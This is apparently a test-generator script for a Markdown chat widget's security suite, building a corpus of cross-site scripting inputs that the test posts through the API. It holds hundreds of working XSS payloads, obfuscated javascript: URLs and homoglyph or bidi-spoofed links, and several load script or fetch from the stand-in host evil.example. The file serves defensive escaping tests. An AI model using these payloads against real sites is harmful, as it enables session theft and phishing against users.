// Writes xss-corpus.txt, the hostile inputs tests/browser/xss.test.mjs posts through the
// real API and shows in the real widget. The committed corpus is the test input; this
// script only documents how it was made (node tests/security/gen-xss-corpus.mjs).
//
// Format: one entry per line; the character ⏎ (U+23CE) stands for a line break inside an
// entry (Markdown needs multi-line input). Every payload that could run calls
// alert/confirm/prompt/eval/fetch or loads from evil.example, which the test traps.
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';

const NL = '\u23ce';
const out = new Set();
const add = (s) => out.add(s.replaceAll('\n', NL));

// Ways to run script from an URL.
const jsUrls = [
  'javascript:alert(1)', 'JavaScript:alert(2)', 'JAVASCRIPT:confirm(3)', ' javascript:alert(4)',
  'javascript&colon;alert(5)', '&#106;avascript:alert(6)', '&#x6A;avascript:alert(7)',
  'jav&#x09;ascript:alert(8)', 'jav\tascript:alert(9)', 'java\u0000script:alert(10)',
  'javascript\u003aalert(11)', '%6A%61vascript:alert(12)', 'javascript://%0aalert(13)',
  'vbscript:msgbox(14)', 'data:text/html,<script>alert(15)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxNik8L3NjcmlwdD4=', 'DATA:text/html,<b>17',
  'data:image/svg+xml,<svg onload=alert(18)>', 'livescript:alert(19)',
  'javascript:eval("alert(20)")', 'javascript:fetch("//evil.example/21")',
  '\u200bjavascript:alert(22)', 'java\u00adscript:alert(23)', '&Tab;javascript:alert(24)',
  'javas&NewLine;cript:alert(25)', '&#0000106avascript:alert(26)', 'jAvAsCrIpT:prompt(27)',
  'javascript:/*-->*/alert(28)', 'file:///etc/passwd', '//evil.example/29',
];
// Every Markdown link form the dialect has, and a few it does not.
const linkForms = [
  (u) => `[click](${u})`, (u) => `[click](${u} "title")`, (u) => `[click](<${u}>)`,
  (u) => `<${u}>`, (u) => `![img](${u})`, (u) => `[click][ref]\n\n[ref]: ${u}`,
  (u) => `[${u}](${u})`, (u) => `**[bold](${u})**`, (u) => `> [quoted](${u})`,
  (u) => `- [listed](${u})`, (u) => `<a href="${u}">raw</a>`, (u) => `[a](${u}`,
];
for (const u of jsUrls) for (const f of linkForms) add(f(u));

// Raw HTML that would run if it reached the DOM unescaped.
const tags = [
  '<script>alert(101)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script>eval("alert(102)")</script>', '<script>new Function("alert(103)")()</script>',
  '<img src=x onerror=alert(104)>', '<img src="//evil.example/105.png">',
  '<svg onload=alert(106)>', '<svg><script>alert(107)</script></svg>',
  '<svg><a xlink:href="javascript:alert(108)"><text y=20>x</text></a></svg>',
  '<svg><animate onbegin=alert(109) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(110)>',
  '<math href="javascript:alert(111)">x</math>', '<iframe src="javascript:alert(112)">',
  '<iframe srcdoc="<script>alert(113)</script>">', '<object data="javascript:alert(114)">',
  '<embed src="javascript:alert(115)">', '<body onload=alert(116)>',
  '<details open ontoggle=alert(117)>', '<input autofocus onfocus=alert(118)>',
  '<video><source onerror=alert(119)>', '<audio src=x onerror=alert(120)>',
  '<marquee onstart=alert(121)>', '<link rel=stylesheet href=//evil.example/122.css>',
  '<style>@import "//evil.example/123.css";</style>', '<meta http-equiv=refresh content="0;url=javascript:alert(124)">',
  '<base href="//evil.example/">', '<form action="javascript:alert(125)"><button>x</button></form>',
  '<a href="javascript:alert(126)">x</a>', '<div style="background:url(//evil.example/127)">',
  '<img src=x:x onerror=alert(128)//', '<scr<script>ipt>alert(129)</scr</script>ipt>',
  '<<script>alert(130);//<</script>', '<img """><script>alert(131)</script>">',
  '<img src=`x` onerror=alert(132)>', '<img/src=x/onerror=alert(133)>',
  '<script\x20type="text/javascript">alert(134);</script>', '</textarea><script>alert(135)</script>',
  '</title><script>alert(136)</script>', '"><script>alert(137)</script>',
  "'><img src=x onerror=alert(138)>", '--><script>alert(139)</script>',
  '<!--<img src="--><img src=x onerror=alert(140)//">', '<![CDATA[<script>alert(141)</script>]]>',
  '<template><img src=x onerror=alert(142)></template>', '<noscript><p title="</noscript><img src=x onerror=alert(143)>">',
  '<xmp><script>alert(144)</script></xmp>', '<plaintext><script>alert(145)</script>',
  '<isindex action=javascript:alert(146) type=submit>', '<table background="javascript:alert(147)">',
  '<div onmouseover="alert(148)">hover</div>', '<a onclick=alert(149)>click</a>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(150)>#x"/></svg>',
  '<portal src=//evil.example/151>', '<object data=//evil.example/152.swf>',
  '<img srcset="//evil.example/153.png 1x">', '<picture><source srcset=//evil.example/154></picture>',
  '<script type=module>import("//evil.example/155.js")</script>', '<img src=x onerror=fetch("//evil.example/156")>',
  '<img src=x onerror=eval(atob("YWxlcnQoMTU3KQ=="))>', '<img src=x onerror=&#97;lert(158)>',
  '<img src=x onerror=\\u0061lert(159)>', '<svg/onload=setTimeout("alert(160)")>',
  '<a href="&#1;javascript:alert(161)">x</a>', '<a href="jav&#x0A;ascript:alert(162)">x</a>',
];
// Wrappers: the same payload inside every Markdown construct, so the renderer's
// escaping is proven in each context (paragraph, emphasis, code, quote, list, link text).
const wrappers = [
  (p) => p, (p) => `*${p}*`, (p) => `**${p}**`, (p) => `\`${p}\``, (p) => `> ${p}`,
  (p) => `- ${p}`, (p) => `1. ${p}`, (p) => `[${p}](https://example.org/)`,
  (p) => `\`\`\`\n${p}\n\`\`\``, (p) => `    ${p}`, (p) => `text\n\n${p}\n\ntext`,
  (p) => `> - *[${p}](https://example.org/)*`,
];
for (const p of tags) for (const w of wrappers) add(w(p));

// Entity and Unicode tricks, homoglyph and bidi-override links.
const unicode = [
  '&lt;script&gt;alert(201)&lt;/script&gt;', '&amp;lt;script&amp;gt;alert(202)',
  '\uff1cscript\uff1ealert(203)\uff1c/script\uff1e', '\u003cscript\u003ealert(204)\u003c/script\u003e',
  '[paypal.com](https://p\u0430ypal.com/)', '[https://\u0430pple.com](https://evil.example/205)',
  '<https://\u0440\u0430y\u0440\u0430l.com/>', '[\u202egpj.exe](https://evil.example/206)',
  '\u202e[moc.elgoog](https://evil.example/207)\u202c', 'https://example.org/\u202e/gpj.exe',
  '[\u2066safe\u2069](https://evil.example/208)', '\u200f[rtl](javascript:alert(209))',
  '[a\u0000b](javascript:alert(210))', '&#x3C;img src=x onerror=alert(211)&#x3E;',
  '&#60;script&#62;alert(212)&#60;/script&#62;', '&#0;&#xD800;&#x110000;&#65535;',
  '\ufeff<script>alert(213)</script>', '<scr\u0131pt>alert(214)</scr\u0131pt>',
  '<\u017fcript>alert(215)</\u017fcript>', '[x](https://evil.example/216 "\u202e")',
  '\u{1F600}<img src=x onerror=alert(217)>', 'a\u0301\u0301\u0301<b>218</b>',
  '\u2028<script>alert(219)</script>\u2029', '[click](\uff4aavascript:alert(220))',
];
for (const p of unicode) for (const w of wrappers.slice(0, 6)) add(w(p));

// Nested Markdown and broken tags.
add(`${'> '.repeat(40)}<script>alert(301)</script>`);
add(`${'*'.repeat(200)}<img src=x onerror=alert(302)>${'*'.repeat(200)}`);
add(`${'['.repeat(100)}x](javascript:alert(303))`);
add(`${'- '.repeat(30)}[x](javascript:alert(304))`);
add('[[x](javascript:alert(305))](https://example.org/)');
add('[x](https://example.org/)(javascript:alert(306))');
add('[x](<javascript:alert(307)> "t")');
add('[x](javascript:alert(308) "<script>alert(309)</script>")');
add('[x](https://example.org/ "\\" onmouseover=alert(310) x=\\"")');
add('[x](https://example.org/"onmouseover="alert(311))');
add("[x](https://example.org/'onmouseover='alert(312))");
add('<https://example.org/"onmouseover="alert(313)>');
add('<https://example.org/><script>alert(314)</script>');
add('`<script>`alert(315)`</script>`');
add('*<script>*alert(316)*</script>*');
add('<a href="https://example.org/">[x](javascript:alert(317))</a>');
add('<img src="x" alt="`onerror=alert(318)`">');
add('<div\nonmouseover=alert(319)>x</div>');
add('<img\tsrc=x\tonerror=alert(320)>');
add('<img src=x onerror\n=alert(321)>');
add('<script\n>alert(322)</script\n>');
add('\\<script>alert(323)\\</script>');
add('<scr\\ipt>alert(324)</script>');
add('[x]: javascript:alert(325)\n\n[x]');
add('![x](https://evil.example/326.png)');
add('<!doctype html><script>alert(327)</script>');
add('<?xml version="1.0"?><script>alert(328)</script>');
add('<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(329)>"></svg>');
add('<math><mi xlink:href="data:x,<script>alert(330)</script>">x</mi></math>');
add('<a href=javascript&#58alert(331)>x</a>');
add('</p></div></section></li></ul><script>alert(332)</script>');
add('<p data-parley-action="reply" data-parley-key="root">333</p>');
add('<textarea data-parley-key="text">334</textarea>');

const corpus = [...out];
const file = path.join(path.dirname(fileURLToPath(import.meta.url)), 'xss-corpus.txt');
writeFileSync(file, `${corpus.join('\n')}\n`);
console.log(`${corpus.length} entries -> ${file}`);
